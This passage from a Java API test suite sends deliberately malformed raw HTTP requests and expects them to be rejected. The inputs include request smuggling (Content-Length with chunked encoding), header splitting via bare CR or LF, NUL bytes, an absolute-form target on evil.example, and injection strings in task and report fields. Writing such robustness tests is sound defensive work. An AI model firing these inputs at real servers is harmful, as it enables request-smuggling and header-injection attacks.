            + auth
            + "Content-Type: application/json\r\n";
    rawRequest(
        cases,
        "Content-Length not a number",
        Set.of(400),
        head + "Idempotency-Key: raw-1\r\nContent-Length: abc\r\n\r\n" + json);
    rawRequest(
        cases,
        "negative Content-Length",
        Set.of(400),
        head + "Idempotency-Key: raw-2\r\nContent-Length: -5\r\n\r\n" + json);
    rawRequest(
        cases,
        "two different Content-Lengths",
        Set.of(400),
        head
            + "Idempotency-Key: raw-3\r\nContent-Length: 5\r\nContent-Length: "
            + json.length()
            + "\r\n\r\n"
            + json);
    rawRequest(
        cases,
        "Content-Length and chunked (smuggling)",
        Set.of(400),
        head
            + "Idempotency-Key: raw-4\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
            + json);
    rawRequest(
        cases,
        "Content-Length of 10^18",
        Set.of(400, 413),
        head + "Idempotency-Key: raw-5\r\nContent-Length: 1000000000000000000\r\n\r\n" + json);
    rawRequest(
        cases,
        "Content-Length of 2^64",
        Set.of(400, 413),
        head + "Idempotency-Key: raw-6\r\nContent-Length: 18446744073709551616\r\n\r\n" + json);
    // A bare LF ends a header line (RFC 9112 2.2), so "a\nX-Evil: 1" is two headers, not an
    // injection; a bare LF that leaves a line without a colon is a malformed request.
    rawRequest(
        cases,
        "bare LF splitting a header value",
        Set.of(400),
        head + "Idempotency-Key: raw\n7\r\nContent-Length: " + json.length() + "\r\n\r\n" + json);
    rawRequest(
        cases,
        "bare CR in a header value",
        Set.of(400),
        head
            + "Idempotency-Key: raw-8\rX-Evil: 1\r\nContent-Length: "
            + json.length()
            + "\r\n\r\n"
            + json);
    rawRequest(
        cases,
        "NUL in a header value",
        Set.of(400),
        head
            + "Idempotency-Key: raw\u00009\r\nContent-Length: "
            + json.length()
            + "\r\n\r\n"
            + json);
    rawRequest(
        cases,
        "header without a colon",
        Set.of(400),
        head + "Idempotency-Key raw-10\r\nContent-Length: " + json.length() + "\r\n\r\n" + json);
    rawRequest(
        cases,
        "space before the colon",
        Set.of(400),
        head + "Idempotency-Key : raw-11\r\nContent-Length: " + json.length() + "\r\n\r\n" + json);
    rawRequest(
        cases,
        "header of 20,000 bytes",
        Set.of(431, 400),
        head
            + "Idempotency-Key: raw-12\r\nX-Big: "
            + "a".repeat(20_000)
            + "\r\nContent-Length: "
            + json.length()
            + "\r\n\r\n"
            + json);
    rawRequest(
        cases,
        "space in the request target",
        Set.of(400),
        "GET /v1/transactions/tx 1 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n" + auth + "\r\n");
    rawRequest(
        cases,
        "control byte in the request target",
        Set.of(400),
        "GET /v1/transactions/tx\u00011 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
            + auth
            + "\r\n");
    rawRequest(
        cases,
        "non-ASCII byte in the request target",
        Set.of(400, 404),
        "GET /v1/transactions/tx_\u00e9 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
            + auth
            + "\r\n");
    rawRequest(
        cases,
        "absolute-form target with a foreign host",
        Set.of(400, 404),
        "GET http://evil.example/v1/nothing HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
            + auth
            + "\r\n");
    rawRequest(
        cases,
        "no Host header",
        Set.of(400),
        "GET /v1/vault/verify HTTP/1.1\r\nConnection: close\r\n" + auth + "\r\n");
    rawRequest(
        cases,
        "two Host headers",
        Set.of(400),
        "GET /v1/vault/verify HTTP/1.1\r\nHost: a\r\nHost: b\r\nConnection: close\r\n"
            + auth
            + "\r\n");
    rawRequest(
        cases,
        "Idempotency-Key in Latin-1 bytes",
        Set.of(400),
        head + "Idempotency-Key: cl\u00e9\r\nContent-Length: " + json.length() + "\r\n\r\n" + json);
    rawRequest(
        cases,
        "folded (obs-fold) header",
        Set.of(400),
        head
            + "Idempotency-Key: raw-13\r\n continued\r\nContent-Length: "
            + json.length()
            + "\r\n\r\n"
            + json);
    rawRequest(
        cases,
        "body shorter than Content-Length",
        Set.of(400, 408),
        head + "Idempotency-Key: raw-14\r\nContent-Length: 500\r\n\r\n" + json);
    rawRequest(
        cases,
        "bad chunk size",
        Set.of(400),
        head
            + "Idempotency-Key: raw-15\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n"
            + json
            + "\r\n0\r\n\r\n");
  }

  private static void postTo(
      List<Case> cases, String name, Set<Integer> statuses, String path, String json) {
    byte[] body = json.getBytes(StandardCharsets.UTF_8);
    cases.add(
        new Case(
            name,
            statuses,
            base ->
                HttpRequest.newBuilder(base.resolve(path))
                    .header("Authorization", "Bearer " + ApiFixture.KEY)
                    .header("Content-Type", "application/json")
                    .POST(HttpRequest.BodyPublishers.ofByteArray(body))
                    .build()));
  }

  /** {@code /v1/tasks} and {@code /v1/reports}: nothing is sent for any of these. */
  private static void tasks(List<Case> cases) {
    for (int i = 0; i < MALFORMED.size(); i++) {
      postTo(cases, "task: malformed JSON #" + i, Set.of(400), "/v1/tasks/add", MALFORMED.get(i));
      postTo(cases, "report: malformed JSON #" + i, Set.of(400), "/v1/reports", MALFORMED.get(i));
    }
    List<String> notArrays = List.of("null", "1", "\"1, 2\"", "true", "{}", "{\"0\": 1}");
    for (String value : notArrays) {
      postTo(
          cases, "task: args " + value, Set.of(422), "/v1/tasks/add", "{\"args\": " + value + "}");
    }
    for (String value : List.of("null", "1", "\"x=1\"", "false", "[]", "[[\"x\", 1]]")) {
      postTo(
          cases,
          "task: kwargs " + value,
          Set.of(422),
          "/v1/tasks/add",
          "{\"kwargs\": " + value + "}");
    }
    List<String> misfits =
        List.of(
            "{}",
            "{\"args\": []}",
            "{\"args\": [1]}",
            "{\"args\": [1, 2, 3]}",
            "{\"args\": [\"a\", \"b\"]}",
            "{\"args\": [null, 2]}",
            "{\"args\": [[1], 2]}",
            "{\"kwargs\": {\"x\": 1}}",
            "{\"kwargs\": {\"x\": 1, \"y\": 2, \"z\": 3}}",
            "{\"kwargs\": {\"x\": \"1\", \"y\": 2}}",
            "{\"args\": [1], \"kwargs\": {\"x\": 2, \"y\": 3}}",
            "{\"args\": [1, 2], \"queue\": \"celery\"}",
            "{\"args\": [1, 2], \"eta\": \"2026-01-01T00:00:00Z\"}",
            "{\"task\": \"add\", \"args\": [1, 2]}");
    for (String body : misfits) {
      postTo(cases, "task: arguments " + body, Set.of(422), "/v1/tasks/add", body);
    }
    for (String injection : INJECTIONS) {
      postTo(
          cases,
          "task name injection: " + injection,
          Set.of(400, 404),
          "/v1/tasks/" + encode(injection),
          "{\"args\": [1, 2]}");
      postTo(
          cases,
          "report month injection: " + injection,
          Set.of(422),
          "/v1/reports",
          body(Map.of("month", injection)));
      getPath(
          cases,
          "task id injection: " + injection,
          Set.of(400, 404),
          "/v1/tasks/" + encode(injection));
    }
    for (String text : UNICODE) {
      if (encodable(text)) {
        postTo(
            cases,
            "report month unicode: " + text,
            Set.of(422),
            "/v1/reports",
            body(Map.of("month", "2026-0" + text)));
      }
      getPath(cases, "task id unicode: " + text, Set.of(400, 404), "/v1/tasks/a" + encode(text));
    }
    List<String> months =
        List.of(
            "{}",
            "{\"month\": null}",
            "{\"month\": 202608}",
            "{\"month\": [\"2026-08\"]}",
            "{\"month\": {\"year\": 2026}}",
            "{\"month\": \"\"}",
            "{\"month\": \"2026-13\"}",
            "{\"month\": \"2026-00\"}",
            "{\"month\": \"2026/08\"}",
            "{\"month\": \"Augustus\"}",
            "{\"month\": \"2999-01\"}",
            "{\"month\": \"0000-01\"}",
            "{\"month\": \"" + "August ".repeat(500) + "\"}",
            "{\"month\": \"2026-08\", \"format\": \"pdf\"}",
            "{\"month\": \"2026-08\", \"month\": \"2026-07\"}");
    for (String body : months) {
      postTo(cases, "report: " + body, Set.of(400, 422), "/v1/reports", body);
    }
    getPath(cases, "task id: too long", Set.of(400), "/v1/tasks/" + "a".repeat(256));
  }
}
